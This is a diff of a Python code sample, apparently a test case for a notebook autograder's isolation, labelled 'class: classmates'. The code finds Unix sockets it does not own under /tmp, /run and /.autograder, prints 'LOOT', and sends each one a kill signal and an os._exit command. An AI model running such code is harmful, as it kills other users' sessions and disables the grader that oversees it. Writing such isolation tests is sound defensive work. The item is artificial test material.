@@ -1,4 +1,4 @@
-"""Speak ZMQ to the sockets of other kernels.
+"""Speak to the sockets of other kernels, and of what starts them.
 
 class: classmates
 expect: graded
@@ -10,9 +10,8 @@ import os
 import socket
 import stat
 
-import zmq
+from autograder.inside import wire
 
-kernel = get_ipython().kernel
 mine = set()
 for fd in os.listdir("/proc/self/fd"):
     try:
@@ -20,21 +19,19 @@ for fd in os.listdir("/proc/self/fd"):
         mine.add(str(end.getsockname()))
     except OSError:
         pass
-for path in glob.glob("/tmp/**/*", recursive=True) + glob.glob("/run/**/*", recursive=True):
+places = ["/tmp/**/*", "/run/**/*", "/.autograder/**/*"]
+for path in sum((glob.glob(place, recursive=True) for place in places), []):
     try:
         if not stat.S_ISSOCK(os.stat(path).st_mode) or path in mine:
             continue
     except OSError:
         continue
-    dealer = zmq.Context.instance().socket(zmq.DEALER)
-    dealer.linger = 0
-    dealer.connect(f"ipc://{path}")
-    kernel.session.send(dealer, "shutdown_request", {"restart": False})
     try:
         probe = socket.socket(socket.AF_UNIX)
         probe.connect(path)
         print("LOOT: a socket that is not mine", path)
+        for order in ({"signal": 9}, ["run", "import os; os._exit(1)"]):
+            wire.send(probe, order)
     except OSError:
-        pass
-    dealer.close()"""
+        pass"""
 ]
